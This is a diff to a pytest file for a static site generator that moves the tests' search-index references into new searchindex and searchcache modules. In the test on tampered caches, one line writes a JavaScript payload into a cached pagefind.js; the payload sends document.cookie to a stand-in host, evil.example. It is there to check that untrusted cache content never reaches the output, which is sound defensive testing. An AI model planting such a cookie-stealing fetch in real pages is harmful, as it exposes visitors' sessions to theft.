@@ -20,7 +20,7 @@ from pathlib import Path
 import pytest
 from helpers import assert_no_traceback, build_ok, docket, seed_output, snapshot, stray_build_folders, write_site
 
-from generator import search
+from generator import search, searchcache, searchindex
 from generator.build import build
 from generator.markdown import RenderedBody
 from generator.session import BuildSession
@@ -131,7 +131,7 @@ def manifest_paths(out: Path) -> set[str]:
 
 def counting_binary(tmp_path: Path, log: Path) -> Path:
     """A stand-in for the Pagefind binary that notes each run in ``log``, then runs the real one."""
-    real = search.executable()
+    real = searchindex.executable()
     script = tmp_path / "pagefind-counting"
     script.write_text(f'#!/bin/sh\necho run >> "{log}"\nexec "{real}" "$@"\n', encoding="utf-8")
     script.chmod(script.stat().st_mode | stat.S_IEXEC)
@@ -255,8 +255,8 @@ def test_the_preview_session_reuses_the_bundle_in_memory(tmp_path, monkeypatch):
     site = write_site(tmp_path / "site", SITE)
     out = tmp_path / "out"
     calls = []
-    real = search.run_pagefind
-    monkeypatch.setattr(search, "run_pagefind",
+    real = searchindex.run_pagefind
+    monkeypatch.setattr(searchindex, "run_pagefind",
                         lambda exe, records, started=None: calls.append(len(records)) or real(exe, records, started))
     session = BuildSession(site, cache=False, drafts=True)
     assert build(site, out, drafts=True, session=session, now=NOW, base_path="/").ok
@@ -275,7 +275,7 @@ def test_the_preview_session_reuses_the_bundle_in_memory(tmp_path, monkeypatch):
 def test_a_damaged_cache_is_ignored(tmp_path, monkeypatch):
     site = write_site(tmp_path / "site", SITE)
     build_ok(site)
-    cached = site / ".docket-cache" / search.CACHE_NAME
+    cached = site / ".docket-cache" / searchcache.FOLDER / "shard-0.zip"
     assert cached.is_file()
     expected = fragments(site / "output")
     cached.write_bytes(b"not a zip file")
@@ -300,7 +300,7 @@ def test_a_tampered_cached_bundle_never_reaches_the_output(tmp_path):
     # Sites are cloned from repositories others commit to: a cache in the site folder is not trusted.
     site = write_site(tmp_path / "site", SITE)
     build_ok(site)
-    tamper(site / ".docket-cache" / search.CACHE_NAME, "pagefind.js", b"fetch('https://evil.example/?'+document.cookie);\n")
+    tamper(site / ".docket-cache" / searchcache.FOLDER / searchcache.RUNTIME, "pagefind.js", b"fetch('https://evil.example/?'+document.cookie);\n")
     (site / "site.yaml").write_text("title: Other title\nbase_url: https://example.org/\n", encoding="utf-8")
     build_ok(site)  # the records are the same: without a check, the tampered bundle would be reused
     clean = tmp_path / "clean"
